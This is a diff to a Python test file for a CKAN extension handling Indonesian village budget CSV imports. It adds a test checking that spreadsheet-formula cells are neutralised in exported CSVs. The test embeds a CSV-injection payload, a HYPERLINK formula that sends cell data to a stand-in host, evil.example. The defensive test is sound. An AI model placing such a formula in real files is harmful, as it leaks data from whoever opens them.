@@ -13,7 +13,7 @@ from ckan.tests import factories
 
 from ckanext.bandaaceh import apbdes
 
-from .conftest import FIXTURES, KAMPUNG_BARU, NEUSU_JAYA, run_import, upload
+from .conftest import FIXTURES, KAMPUNG_BARU, NEUSU_JAYA, fixture_module, run_import, upload
 
 pytestmark = pytest.mark.usefixtures("portal", "clean_datastore")
 
@@ -397,3 +397,25 @@ def test_transparency_json_and_csv(app, operator, budget_file):
     html = page.get_data(as_text=True)
     assert "Transparansi APBG" in html and "Kampung Baru" in html and "Sudah terbit" in html
     assert f"/apbdes/{NAME}" in html
+
+
+def test_formula_cells_are_neutralised_in_every_budget_csv_but_exact_in_the_datastore(app, operator, tmp_path):
+    # A budget file whose description cell is a spreadsheet formula (CSV injection, OWASP).
+    org, user = operator()
+    mf = fixture_module()
+    grid = mf.penjabaran_grid(mf.kampung_baru_spec())
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Bagi Hasil Usaha BUMG")'
+    grid.rows[grid.marks["4.1.1.01"] - 1][1] = evil
+    path = tmp_path / "apbg-kampung-baru-2025.csv"
+    mf.write_csv(path, grid)
+    run_import(user["name"], path, gampong=org["name"], tahun=2025)
+    res = lines_resource(show(NAME))
+    assert sql(f"""SELECT uraian FROM "{res['id']}" WHERE kode_rekening = '4.1.1.01'""") == [{"uraian": evil}]
+
+    lines = app.get("/" + res["url"].split("://", 1)[1].split("/", 1)[1]).get_data(as_text=True)
+    row = next(r for r in csv.DictReader(io.StringIO(lines)) if r["kode_rekening"] == "4.1.1.01")
+    assert (row["uraian"], row["anggaran"]) == ("'" + evil, "15000000")
+
+    city = app.get("/transparansi-apbg/apbg-2025.csv").get_data(as_text=True)
+    row = next(r for r in csv.DictReader(io.StringIO(city)) if r["kode_rekening"] == "4.1.1.01")
+    assert (row["uraian"], row["anggaran"]) == ("'" + evil, "15000000")
